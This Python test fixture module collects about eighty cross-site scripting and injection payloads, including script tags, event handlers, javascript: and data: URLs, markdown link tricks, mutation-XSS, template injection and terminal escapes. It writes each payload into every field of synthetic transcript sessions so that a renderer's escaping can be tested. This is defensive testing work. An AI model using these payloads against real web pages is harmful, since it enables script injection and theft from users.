"""Texts that would run scripts or load resources in a page that trusts them, and sessions with one in every field."""

from __future__ import annotations

import base64
from collections.abc import Sequence
from typing import Any

from builders import Json, entry
from sessile.render.shown import Gap, Transcript
from transcripts import transcript

_RUN = "window.pwned=1"
_AWAY = "https://x.example/"

PAYLOADS = [
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script src={_AWAY}x.js></script>",
    f"<script>{_RUN}//",
    f"</script><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</template><script>{_RUN}</script>",
    f"</article></main><img src=x onerror={_RUN}>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"<!--<script>{_RUN}</script>",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"<?php <script>{_RUN}</script> ?>",
    f"<img src=x onerror={_RUN}>",
    f'"><img src=x onerror={_RUN}>',
    f"'><img src=x onerror={_RUN}>",
    f"`><img src=x onerror={_RUN}>",
    f"<img src={_AWAY}i.png>",
    f"<img srcset='{_AWAY}i.png 2x'>",
    f"<image href={_AWAY}i.png>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text y=9>x</text></a></svg>",
    f"<svg><use href='{_AWAY}s.svg#x'/></svg>",
    f"<math><mi xlink:href='javascript:{_RUN}'>x</mi></math>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={_RUN}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<iframe src='javascript:{_RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<object data='javascript:{_RUN}'></object>",
    f"<embed src='{_AWAY}e.swf'>",
    f"<base href='{_AWAY}'>",
    f"<link rel=stylesheet href='{_AWAY}s.css'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    f"<style>@import '{_AWAY}s.css'; * {{ background: url({_AWAY}b) }}</style>",
    f"<div style='background:url({_AWAY}b)'>x</div>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<form action='javascript:{_RUN}'><button>x</button></form>",
    f"<a href='javascript:{_RUN}'>x</a>",
    f"<a href='java\tscript:{_RUN}'>x</a>",
    f"<a href='&#106;avascript:{_RUN}'>x</a>",
    f"<x onclick={_RUN} id=query>x</x>",
    f"[x](javascript:{_RUN})",
    f"[x](JaVaScRiPt:{_RUN})",
    f"[x](&#x6A;avascript:{_RUN})",
    f"[x](java%0ascript:{_RUN})",
    f"[x](data:text/html;base64,{base64.b64encode(f'<script>{_RUN}</script>'.encode()).decode()})",
    f"[x](vbscript:{_RUN})",
    f'[x]({_AWAY}"onmouseover="{_RUN})',
    f"[x]: javascript:{_RUN}\n\n[x]",
    f"<javascript:{_RUN}>",
    f"![x]({_AWAY}i.png)",
    f"![x](javascript:{_RUN})",
    f'![x]({_AWAY}i.png"onerror="{_RUN})',
    f'```"><script>{_RUN}</script>\nx\n```',
    f"```html\n</code></pre><script>{_RUN}</script>\n```",
    f"| <img src=x onerror={_RUN}> |\n|:-:|\n| x |",
    f'" onmouseover="{_RUN}" x="',
    f"' onmouseover='{_RUN}' x='",
    f"x onmouseover={_RUN}",
    f"javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"{_AWAY}i.png",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
    f"\x1b]8;;javascript:{_RUN}\x07x\x1b]8;;\x07\x1b[31m<script>{_RUN}</script>",
    f"\u202e<script>{_RUN}</script>\u2066",
    f"\ud800<script>{_RUN}</script>\x00",
    f"${{{_RUN}}} {{{{constructor.constructor('{_RUN}')()}}}}",
    f"'-{_RUN}-'",
    "__proto__",
    "constructor",
]


def poisoned_head(payload: str) -> Transcript:
    """Return a session with the payload in all of its metadata."""
    return transcript(
        [entry("message", payload, None, message={"role": "user", "content": "x"})],
        id=payload,
        title=payload,
        cwd=payload,
        leaf=payload,
        labels={payload: payload},
        gaps=[Gap(payload, payload), Gap(None, payload)],
        notes=[payload],
        depth="all",
    )


def poisoned_entries(payloads: Sequence[str] = PAYLOADS) -> Transcript:
    """Return a session with every payload in every field of all kinds of entries, on one branch with others beside it."""
    entries: list[Json] = []
    for number, payload in enumerate(payloads):
        entries += entries_with(payload, f"p{number}", entries[-1]["id"] if entries else None)
    labels = {made["id"]: payloads[number % len(payloads)] for number, made in enumerate(entries)}
    return transcript(entries, labels=labels, depth="all")


def entries_with(bad: str, name: str, parent: str | None) -> list[Json]:
    """Return a chain of entries of every kind with a text in every field, and two siblings of the last."""
    value: Any = {bad: bad, "list": [bad, {bad: [bad]}]}
    data = base64.b64encode(bad.encode("utf-8", "replace")).decode()
    blocks: list[Json] = [
        {"type": "text", "text": bad},
        {"type": "thinking", "thinking": bad},
        {"type": "image", "mimeType": bad, "data": bad},
        {"type": "image", "mimeType": "image/svg+xml", "data": data},
        {"type": "image", "mimeType": "image/png", "data": f"data:image/png;base64,{data}"},
        {"type": "toolCall", "id": bad, "name": bad, "arguments": {"command": bad, "path": bad, bad: bad}},
        {"type": "toolCall", "id": "c", "name": bad, "arguments": bad},
        {"type": bad, bad: bad},
    ]
    said = {"content": blocks, "provider": bad, "model": bad, "errorMessage": bad, "stopReason": bad, "customType": bad}
    messages: list[Json] = [
        {"role": bad, **said},
        {"role": "user", **said},
        {"role": "assistant", **said, "usage": {"input": 5, "output": bad, "cost": {"total": bad}}},
        {"role": "custom", **said},
        {
            "role": "toolResult",
            "toolName": bad,
            "toolCallId": bad,
            "content": blocks,
            "isError": True,
            "details": {"diff": f"+{bad}\n-{bad}"},
        },
        {"role": "toolResult", "toolName": bad, "toolCallId": "c", "content": bad, "details": value},
        {"role": "bashExecution", "command": bad, "output": bad, "exitCode": 1},
        {"role": "pythonExecution", "code": bad, "output": bad},
        {"role": "fileMention", "files": [{"path": bad, "content": bad, "image": blocks[2]}]},
        {"role": "branchSummary", "summary": bad},
    ]
    kinds: list[tuple[str, Json]] = [
        *(("message", {"message": message}) for message in messages),
        ("compaction", {"summary": bad, "shortSummary": bad, "details": value, "tokensBefore": 5, "tokensAfter": 1}),
        ("branch_summary", {"summary": bad, "fromId": bad}),
        ("custom", {"customType": bad, "data": value}),
        ("custom_message", {"customType": bad, "content": bad, "display": True}),
        ("label", {"targetId": bad, "label": bad}),
        ("model_change", {"provider": bad, "modelId": bad, "role": bad}),
        ("thinking_level_change", {"thinkingLevel": bad}),
        ("mode_change", {"mode": bad, "data": value}),
        ("session_info", {"name": bad}),
        ("session_init", {"task": bad, "systemPrompt": bad, "tools": [bad]}),
        ("context_edit", {"targetId": bad, "replacement": value}),
        (bad, {bad: value}),
    ]
    entries: list[Json] = []
    for number, (kind, members) in enumerate(kinds):
        entries.append(entry(kind, f"{name}-{number}", parent, **members))
        parent = f"{name}-{number}"
    beside = entry("message", f"{bad} ", parent, message={"role": "user", "content": bad})
    named = entry("message", bad, parent, message={"role": "user", "content": bad})
    return [*entries, beside, named]
